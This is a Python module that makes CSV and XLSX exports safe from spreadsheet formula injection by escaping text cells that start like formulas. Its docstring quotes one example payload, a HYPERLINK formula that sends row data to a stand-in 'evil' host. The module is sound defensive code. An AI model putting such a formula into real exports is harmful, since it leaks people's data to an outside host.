"""Exports that are safe to open in Excel: user text is always text, never a formula.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is run as a formula by
Excel and LibreOffice (``=HYPERLINK("http://evil/?"&A1, "詳細")`` sends the row away when clicked). Every
CSV and XLSX export goes through here:

- ``csv_writer(stream)``: a ``csv.writer`` whose text cells get a leading ``'`` when they start like that;
- ``xlsx_append(sheet, row)`` / ``xlsx_cell(sheet, row, column, value)``: text cells are typed as strings
  (openpyxl would otherwise store ``"=..."`` as a formula) and marked "quote prefix", as Excel does for
  text typed after ``'``.

Numbers, dates and booleans are left as they are, so they stay numbers and dates in the sheet.
"""
from __future__ import annotations

import csv
import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# "-3" or "+1.5" written as text (a formatted number) is a number to Excel, not a formula.
_PLAIN_NUMBER = re.compile(r"^[-+]?\d+(?:[.,]\d+)*$")


def starts_like_formula(value: str) -> bool:
    return value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.match(value)


def safe_text(value):
    """``value`` for a CSV cell: text that would start a formula gets a leading apostrophe."""
    if isinstance(value, str) and starts_like_formula(value):
        return "'" + value
    return value


class _SafeWriter:
    def __init__(self, writer):
        self._writer = writer

    def writerow(self, row):
        return self._writer.writerow([safe_text(value) for value in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def csv_writer(stream, **options) -> _SafeWriter:
    options.setdefault("lineterminator", "\r\n")
    return _SafeWriter(csv.writer(stream, **options))


def _as_text(cell) -> None:
    if isinstance(cell.value, str):
        cell.data_type = "s"
        if starts_like_formula(cell.value):
            cell.quotePrefix = True


def xlsx_cell(sheet, row: int, column: int, value=None):
    cell = sheet.cell(row=row, column=column, value=value)
    _as_text(cell)
    return cell


def xlsx_append(sheet, values) -> None:
    """``sheet.append(values)`` with every text cell kept as text."""
    sheet.append(list(values))
    for cell in sheet[sheet.max_row]:
        _as_text(cell)
